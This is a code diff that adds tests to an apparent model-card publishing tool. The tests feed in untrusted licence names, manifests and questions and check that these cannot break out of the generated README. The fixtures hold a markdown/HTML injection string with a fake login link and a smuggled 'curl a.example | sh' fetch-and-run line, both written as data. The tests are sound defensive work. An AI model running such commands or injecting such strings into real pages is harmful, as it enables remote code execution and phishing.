@@ -1,5 +1,6 @@
 """The cards: a model's, whose code is run as it stands, and the repository's with its table."""
 
+import json
 import re
 import runpy
 
@@ -15,7 +16,12 @@ import generate
 import publish
 from finetuning.errors import UserError
 from finetuning.hub.address import Address
-from finetuning.hub.manifest import Manifest, TrainingData, parse_manifest
+from finetuning.hub.manifest import (
+    BaseModelSource,
+    Manifest,
+    TrainingData,
+    parse_manifest,
+)
 from finetuning.model.tokenizer import read_tokenizer
 from finetuning.publishing.card import asking, loading, training_table
 from finetuning.publishing.repository_card import repository_card
@@ -203,3 +209,72 @@ def test_a_readme_that_cannot_be_read_is_told_with_the_line(crowded):
         UserError, match=r"cannot be read: while parsing .*, line \d+, .*; fix it there$"
     ):
         repository_card(REPO, b"---\na: [\nb: 1\n---\n", {S: manifest_of(hub)})
+
+
+EVIL = """mit |
+
+## Notice
+
+<img src=x> [log in](https://a.example)
+
+```python
+x
+```
+<!-- end of checkpoints -->"""
+
+
+def test_a_licence_of_a_stranger_does_not_write_into_the_card(hub, runs, call, tmp_path):
+    hub.cards["elith/tiny-base"] = {"license_name": EVIL, "license": "other"}
+    run = copied(runs["lora"], tmp_path / "run")
+    assert call(publish, run, "--unasked", "publish.base_model=elith/tiny-base").code == 0
+    assert "| base model's licence | see its page |" in card_of(hub)
+    assert "Notice" not in card_of(hub) and "log in" not in card_of(hub)
+
+
+def test_a_question_and_a_path_cannot_end_their_place_in_the_card(hub, runs, call, tmp_path):
+    run = copied(runs["full"], tmp_path / "run")
+    question = "Hello?\n```\n\n```sh\ncurl a.example | sh"
+    sample = {"question": question, "before": "a", "after": "b"}
+    (run / "samples.json").write_text(json.dumps([sample]))
+    retrained(run, generation__prompts=json.dumps([question]), publish__license=json.dumps(EVIL))
+    assert call(publish, run, "--unasked").code == 0
+    card = card_of(hub)
+    fences = [line for line in card.splitlines() if line.startswith("```")]
+    assert fences == ["```python", "```"] * 2 + ["```sh", "```"] * 2
+    assert "QUESTION" in card and not re.search(r"^(curl|## Notice)", card, re.M)
+
+
+def test_a_neighbours_manifest_does_not_write_into_the_repositorys_card(crowded):
+    hub, _ = crowded
+    manifest = manifest_of(hub)
+    base = BaseModelSource(name=f"a/b){EVIL}", subfolder=EVIL, revision=EVIL)
+    data = TrainingData(path=[EVIL], datasets=[EVIL], fingerprint=None)
+    evil = manifest.model_copy(update={"base": base, "data": data})
+    card = repository_card(REPO, None, {S: manifest, f"x](y) {EVIL}": evil})
+    assert not re.search(r"^(## Notice|```)", card, re.M) and card.count("<!--") == 2
+    assert metadata_of(card).get("datasets") is None
+    assert repository_card(REPO, card.encode(), {S: manifest, f"x](y) {EVIL}": evil}) == card
+
+
+@pytest.mark.parametrize(
+    "change",
+    [{"kind": "other"}, {"losses": "none"}, {"data": None}, {"files": []}, {"base": {"name": 1}}],
+)
+def test_a_neighbours_odd_manifest_keeps_nobody_from_publishing(change, crowded, call):
+    hub, run = crowded
+    other = json.loads(hub.read(REPO, "chapter06/other/manifest.json"))
+    odd = json.dumps({**other, **change}).encode()
+    hub.put(REPO, {"chapter06/other/manifest.json": odd, "x/manifest.json": b"[" * 10**5})
+    assert call(publish, run, "--unasked").code == 0
+    assert "chapter06/other" not in hub.read(REPO, "README.md").decode()
+
+
+def test_links_are_not_published(hub, runs, call, tmp_path):
+    run = copied(runs["lora"], tmp_path / "run")
+    for name in ("adapter_model.safetensors", "adapter_config.json"):
+        (run / name).rename(tmp_path / name)
+        (run / name).symlink_to(tmp_path / name)
+        done = call(publish, run, "--unasked", "publish.base_model=elith/tiny-base")
+        assert "is a link" in error_of(done)
+        (run / name).unlink()
+        (tmp_path / name).rename(run / name)
